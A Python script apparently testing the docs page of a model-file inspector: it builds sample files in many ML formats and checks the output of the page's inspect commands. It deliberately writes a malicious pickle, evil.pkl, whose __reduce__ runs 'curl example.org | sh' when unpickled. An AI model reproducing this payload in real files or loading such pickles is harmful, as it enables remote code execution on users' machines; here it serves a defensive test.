#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""The examples of docs/formats.md: makes the files that the page looks at, each as its framework
writes it, runs every `$ firn inspect FILE` of the page, and compares what is printed.

    scripts/python tests/docs/formats.py            compare; prints "formats: N passed, N failed"
    scripts/python tests/docs/formats.py --update   write what is printed into the page

A line of the page that is "..." stands for any lines; versions of packages may be others."""

import io
import json
import os
import pickle
import re
import struct
import subprocess
import sys
import tarfile
import tempfile
import warnings
import zipfile
from pathlib import Path

import numpy as np

ROOT = Path(__file__).resolve().parents[2]
FIRN = os.environ.get("FIRN", str(ROOT / "build" / "firn"))
PAGE = ROOT / "docs" / "formats.md"
warnings.filterwarnings("ignore")


def sklearn_files():
    import cloudpickle
    import dill
    import joblib
    import skops.io
    from sklearn.datasets import load_iris
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import FunctionTransformer, StandardScaler

    flowers = load_iris(as_frame=True)
    model = make_pipeline(StandardScaler(), LogisticRegression()).fit(flowers.data, flowers.target)
    with open("model.pkl", "wb") as file:
        pickle.dump(model, file)
    joblib.dump(model, "model.joblib", compress=3)
    skops.io.dump(model, "model.skops")
    own = make_pipeline(FunctionTransformer(lambda table: table * 2), LogisticRegression())
    own.fit(flowers.data, flowers.target)
    for name, module in (("model.dill", dill), ("model.cloudpickle", cloudpickle)):
        with open(name, "wb") as file:
            module.dump(own, file, **({"recurse": True} if module is dill else {}))


class Evil:
    """An object that pickle writes as a call: whoever unpickles it makes the call."""

    def __reduce__(self):
        return os.system, ("curl example.org | sh",)


def evil_file():
    Path("evil.pkl").write_bytes(pickle.dumps(Evil()))


def keras_files():
    os.environ["KERAS_BACKEND"] = "numpy"
    import keras
    model = keras.Sequential([keras.Input((4,), name="flower"), keras.layers.Dense(8, "relu"),
                              keras.layers.Dense(3, "softmax", name="kind")])
    model.save("model.keras")
    model.save("model.h5")


def saved_model():
    with tarfile.open(ROOT / "tests" / "importers" / "savedmodel" / "plain.tar.xz") as archive:
        archive.extractall("saved", filter="data")
    below = [p.parent for p in Path("saved").rglob("saved_model.pb")]
    below[0].rename("model")


def onnx_file():
    from onnx import TensorProto, helper, numpy_helper, save
    graph = helper.make_graph(
        [helper.make_node("Gemm", ["flower", "w", "b"], ["scores"]),
         helper.make_node("Softmax", ["scores"], ["kind"])], "flowers",
        [helper.make_tensor_value_info("flower", TensorProto.FLOAT, ["batch", 4])],
        [helper.make_tensor_value_info("kind", TensorProto.FLOAT, ["batch", 3])],
        [numpy_helper.from_array(np.ones((4, 3), "f4"), "w"),
         numpy_helper.from_array(np.ones(3, "f4"), "b")])
    save(helper.make_model(graph, producer_name="by-hand", ir_version=10,
                           opset_imports=[helper.make_opsetid("", 21)]), "model.onnx")


def array_files():
    np.save("rows.npy", np.ones((150, 4), "f4"))
    np.savez("rows.npz", x=np.ones((150, 4), "f4"), y=np.arange(150))
    header = json.dumps({"w": {"dtype": "F32", "shape": [4, 3], "data_offsets": [0, 48]}}).encode()
    Path("model.safetensors").write_bytes(struct.pack("<Q", len(header)) + header + bytes(48))


def torch_files():
    """The archives of torch.jit.save and torch.save, as far as they are alike for every model."""
    class Storage:
        pass

    with zipfile.ZipFile("model.pt", "w") as packed:
        for name in ("data.pkl", "constants.pkl"):
            packed.writestr("model/" + name, pickle.dumps({}, 2))
        packed.writestr("model/code/__torch__.py", "class Net(Module):\n  pass\n")
        packed.writestr("model/version", "3\n")
    with zipfile.ZipFile("state.pth", "w") as packed:
        data = io.BytesIO()
        pickler = pickle.Pickler(data, 2)
        pickler.persistent_id = lambda obj: ("storage", "0") if isinstance(obj, Storage) else None
        pickler.dump({"weight": Storage()})
        packed.writestr("archive/data.pkl", data.getvalue())
        packed.writestr("archive/version", "3\n")
        packed.writestr("archive/data/0", bytes(48))


def text_files():
    Path("model.pmml").write_text("""<?xml version="1.0"?>
<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header/><DataDictionary/></PMML>
""")
    Path("model.json").write_text(json.dumps({"learner": {"gradient_booster": {}},
                                              "version": [3, 0, 0]}))
    Path("model.txt").write_text("tree\nversion=v4\nnum_class=1\nmax_feature_idx=3\n")


def caffe2_file():
    sys.path.insert(0, str(ROOT / "python"))
    import firn
    case = np.load(ROOT / "tests" / "importers" / "caffe2" / "lenet.npz")
    firn.save_model("caffe2", (case["init_net"].tobytes(), case["predict_net"].tobytes()), "model",
                    {"inputs": [{"name": "data", "type": "float32", "shape": [None, 1, 28, 28]}]},
                    {"outputs": [{"name": "digit", "type": "float32", "shape": [None, 10]}]})


def masked(data):
    """CRC-32C as TensorFlow masks it."""
    crc = 0xFFFFFFFF
    for byte in data:
        crc ^= byte
        for _ in range(8):
            crc = crc >> 1 ^ (0x82F63B78 if crc & 1 else 0)
    crc ^= 0xFFFFFFFF
    return ((crc >> 15 | crc << 17) + 0xA282EAD8) & 0xFFFFFFFF


def record_file():
    example = b"\n\x0f\n\r\n\x01x\x12\x08\x12\x06\n\x04\0\0\x80\x3f"  # {"x": [1.0]}
    size = struct.pack("<Q", len(example))
    Path("rows.tfrecord").write_bytes(size + struct.pack("<I", masked(size)) + example +
                                      struct.pack("<I", masked(example)))


MAKERS = [sklearn_files, evil_file, keras_files, saved_model, onnx_file, array_files, torch_files,
          text_files, caffe2_file, record_file]


def plain(line):
    return re.sub(r"\b\d+\.\d+(\.\d+)*\b", "N", line).rstrip()


def fits(want, got):
    """The lines of the page, "..." any number of others."""
    at, free = 0, False
    for line in want:
        if line.strip() == "...":
            free = True
            continue
        while free and at < len(got) and plain(got[at]) != plain(line):
            at += 1
        if at == len(got) or plain(got[at]) != plain(line):
            return line
        at, free = at + 1, False
    return None if free or at == len(got) else "(end)"


def main(update):
    text = PAGE.read_text()
    passed = failed = 0
    with tempfile.TemporaryDirectory() as folder:
        os.chdir(folder)
        for make in MAKERS:
            make()
        for block in re.findall(r"^```\n(\$ firn .*?)^```", text, re.S | re.M):
            command, *want = block.rstrip("\n").split("\n")
            done = subprocess.run(["sh", "-c", command[2:].replace("firn", FIRN, 1)],
                                  capture_output=True, text=True)
            got = (done.stdout + done.stderr).rstrip("\n").split("\n")
            if update:
                text = text.replace(block, "\n".join([command, *[g.rstrip() for g in got]]) + "\n")
                continue
            wrong = fits(want, got)
            passed, failed = passed + (wrong is None), failed + (wrong is not None)
            if wrong is not None:
                print("WRONG %s: the page has %r; printed is\n%s" % (command, wrong, "\n".join(got)))
        os.chdir(ROOT)
    if update:
        PAGE.write_text(text)
    print("formats: %d passed, %d failed" % (passed, failed + (not update and passed < 15)))
    return failed > 0


if __name__ == "__main__":
    sys.exit(main("--update" in sys.argv))
